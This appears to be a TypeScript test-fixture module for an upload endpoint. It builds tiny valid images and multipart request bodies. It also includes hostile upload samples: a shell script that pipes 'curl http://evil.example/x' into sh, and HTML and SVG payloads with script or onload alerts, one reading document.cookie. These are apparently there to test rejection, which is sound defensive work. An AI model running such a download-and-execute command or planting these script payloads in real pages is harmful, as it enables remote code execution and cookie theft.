import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

// Test fixtures: tiny images built byte by byte, and a multipart body builder for `inject`.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A valid 1×1 RGBA PNG; `padding` zero bytes after IEND make it as large as a test needs. */
export function tinyPng(padding = 0): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0, 255]))),
    pngChunk('IEND', Buffer.alloc(0)),
    Buffer.alloc(padding),
  ]);
}

/** A 1×1 white baseline JPEG (a real one: uploads are decoded and re-encoded). */
export function tinyJpeg(): Buffer {
  return Buffer.from(
    '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAf/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKAAD//Z',
    'base64',
  );
}

/** A width×height PNG of pseudo-random pixels (the same every time): it compresses badly, so its size is predictable. */
/** The start of a JPEG (its JFIF header) and nothing else: sniffed as a JPEG, but it cannot be decoded. */
export function headerOnlyJpeg(): Buffer {
  return Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, ...Buffer.from('JFIF'), 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
}

export function noisePng(width: number, height: number): Promise<Buffer> {
  let seed = 1;
  const pixels = Buffer.alloc(width * height * 3).map(() => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
    return seed >>> 24;
  });
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .png()
    .toBuffer();
}

/** A 1×1 GIF89a. */
export function tinyGif(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
}

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
export const SVG_IMAGE = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
);

export interface MultipartFile {
  field?: string;
  name: string;
  type: string;
  bytes: Uint8Array;
}

/** A multipart/form-data body and its content type, built by the platform's own FormData. */
export async function multipartPayload(
  entries: (MultipartFile | [string, string])[],
): Promise<{ payload: Buffer; headers: { 'content-type': string } }> {
  const form = new FormData();
  for (const entry of entries) {
    if (Array.isArray(entry)) form.append(entry[0], entry[1]);
    else form.append(entry.field ?? 'file', new Blob([entry.bytes], { type: entry.type }), entry.name);
  }
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type') ?? '' },
  };
}
